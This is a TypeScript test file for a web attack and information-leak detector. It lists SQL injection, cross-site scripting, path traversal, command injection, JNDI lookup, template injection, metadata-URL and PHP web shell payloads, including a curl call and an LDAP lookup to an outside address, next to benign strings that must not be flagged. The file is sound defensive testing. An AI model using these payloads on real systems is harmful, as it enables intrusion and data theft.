/** Values that attack and values that only look like it; figures on the development set, where it is at hand. */
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { attackNames, attacksIn, attacksInPath, attacksInText } from '../../../../analyzer/detect/attack/attack.ts';
import { disclosureNames, disclosuresIn } from '../../../../analyzer/detect/attack/disclosure.ts';
import { Random } from '../../../../deploy/traffic/random.ts';

const namesOf = (bits: number, names = attackNames) => names.filter((_, bit) => ((bits >> bit) & 1) === 1);

test('attacks are told, in each dress', () => {
  const cases: [string, string][] = [
    ["1' or '1'='1", 'sql-injection'],
    ["admin'--", 'sql-injection'],
    ['1 union select 1,password from users', 'sql-injection'],
    ['1/**/UnIoN/*!50000SELECT*/1,2,3', 'sql-injection'],
    ["x';waitfor delay '0:0:5'--", 'sql-injection'],
    ['1 and sleep(5)', 'sql-injection'],
    ['1%2527%20or%201%3D1--', 'sql-injection'],
    ['<script>alert(1)</script>', 'cross-site-scripting'],
    ['%3Cimg src=x onerror=alert(1)%3E', 'cross-site-scripting'],
    ['"><svg/onload=alert(1)>', 'cross-site-scripting'],
    ['java\tscript:alert(1)', 'cross-site-scripting'],
    ['../../../../etc/passwd', 'path-traversal'],
    ['..%252f..%252fetc%252fpasswd', 'path-traversal'],
    ['%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini', 'path-traversal'],
    ['127.0.0.1;cat /etc/hosts', 'command-injection'],
    ['$(curl http://198.51.100.1/x)', 'command-injection'],
    ['http://169.254.169.254/latest/meta-data/', 'server-side-request'],
    ['gopher://10.0.0.1:6379/_x', 'server-side-request'],
    [`\${jndi:ldap://198.51.100.1/a}`, 'lookup-injection'],
    [`\${\${lower:j}ndi:\${lower:l}dap://x/a}`, 'lookup-injection'],
    ['{{7*7}}', 'template-injection'],
    [`\${T(java.lang.Runtime).getRuntime().exec('id')}`, 'template-injection'],
    ['<?php system($_GET[1]);', 'code-injection'],
    [Buffer.from("1' union select 1,2 from users-- ").toString('base64'), 'sql-injection'],
  ];
  for (const [text, name] of cases) assert.ok(namesOf(attacksInText(text, 'q', false)).includes(name), text);
});

test('what people write, and programs send each day, is none', () => {
  const texts = [
    ...[
      "O'Brien and sons",
      "Jack-o'-lantern",
      '2 or 4 metal buttons',
      'Y’all come back now',
      '"like" stamp',
      'rock & roll',
    ],
    ...[
      '张三，男，汉族；住址：上海市浦东新区1号',
      '2026-11-12 10:00:00',
      '{"a":[1,2],"b":{"c":"d"}}',
      'a=1&b=2;c=3',
      '-1',
      '--',
    ],
    ...[
      'select a product from the list',
      'union of workers',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
    ],
    ...[
      'https://www.example.com/a/b?c=d#e',
      '/h5/index.html?x=1',
      'image/*;q=0.8',
      '<p>Dear <b>sir</b>,<br/>thank you</p>',
      '../logo.png',
    ],
    ...[
      '50% off (today only!)',
      'C:\\Users\\me\\file.txt',
      'price < 100 and > 50',
      '$100',
      '{name}',
      'f(x) = x + 1',
      '#1',
      '1=1元',
    ],
  ];
  const told = texts.flatMap((text) => {
    const names = namesOf(attacksInText(text, 'q', false));
    return names.length === 0 ? [] : [`${text}: ${names}`];
  });
  assert.deepEqual(told, []);
  for (const path of ['/api/v1/users/1', '/a/b.c/d', '/静态/x', '/r/2026-11-12/report.xlsx'])
    assert.equal(attacksInPath(path), 0);
  assert.deepEqual(namesOf(attacksInPath('/static/..%2f..%2f..%2fetc/passwd')), ['path-traversal']);
});

test('an address to come back to is for the browser', () => {
  assert.equal(attacksInText('http://localhost:8080/cb', 'redirect_uri', false), 0);
  assert.notEqual(attacksInText('http://localhost:8080/cb', 'image', false), 0);
});

test('what answers give away', () => {
  const cases: [string, string][] = [
    ['java.lang.NullPointerException\n\tat com.a.B.c(B.java:12)', 'stack-trace'],
    ['Traceback (most recent call last):\n  File "/a.py", line 3, in f', 'stack-trace'],
    ["You have an error in your SQL syntax near ''1''", 'database-error'],
    ['ORA-00933: SQL command not properly ended', 'database-error'],
    ['<html><head><title>Index of /upload</title>', 'directory-listing'],
    ['root:x:0:0:root:/root:/bin/bash', 'system-file'],
    ['<title>Swagger UI</title>', 'api-description'],
  ];
  for (const [text, name] of cases) assert.deepEqual(namesOf(disclosuresIn(text), disclosureNames), [name], text);
  for (const text of [
    '{"code":500,"message":"system is busy, please try again later"}',
    '<title>登录</title>',
    'Internal Server Error',
    '订单不存在',
  ])
    assert.equal(disclosuresIn(text), 0, text);
});

test('random octets are looked at in bounded time, and nothing throws', () => {
  const random = new Random(7);
  for (let i = 0; i < 400; i++) {
    const text = random.text(random.below(300), '\'"<>(){}$%;|&\\#=* .-/aeiounslct0123456789\n');
    const bytes = Buffer.from(text);
    attacksIn(bytes, 0, bytes.length, 'q', random.chance(0.2));
    disclosuresIn(text);
  }
  for (const unit of [
    "'",
    '<a ',
    '../',
    '${',
    '%25',
    '&#',
    '(',
    'at a.b(',
    '{{',
    ' or 1',
    '/*',
    'union ',
    ';cat ',
    '\\u0027',
    'on=',
    '"x" ',
  ]) {
    const text = unit.repeat(4096 / unit.length);
    attacksInText(text, 'q', false);
    disclosuresIn(text);
  }
});

const data = new URL(
  '../shared/datasets/attacks/libinjection_values.jsonl',
  new URL('.', import.meta.resolve('#root/package.json')),
);

test('the development set: recall, and traps', {
  skip: existsSync(data) ? false : 'absent: ../shared/datasets',
}, () => {
  const counts: Record<string, { all: number; found: number }> = {};
  for (const line of readFileSync(data, 'utf8').trim().split('\n')) {
    const { label, value } = JSON.parse(line) as { label: string; value: string };
    const names = namesOf(attacksInText(value, 'q', false) | attacksInText(value.replaceAll('+', ' '), 'q', false));
    const count = (counts[label] ??= { all: 0, found: 0 });
    count.all++;
    const isFound = {
      benign: names.length > 0,
      sqli: names.includes('sql-injection'),
      xss: names.includes('cross-site-scripting'),
    };
    if (isFound[label as keyof typeof isFound]) count.found++;
  }
  const share = (label: string) => counts[label]!.found / counts[label]!.all;
  assert.ok(share('sqli') > 0.92 && share('xss') > 0.94 && share('benign') < 0.03, JSON.stringify(counts));
});
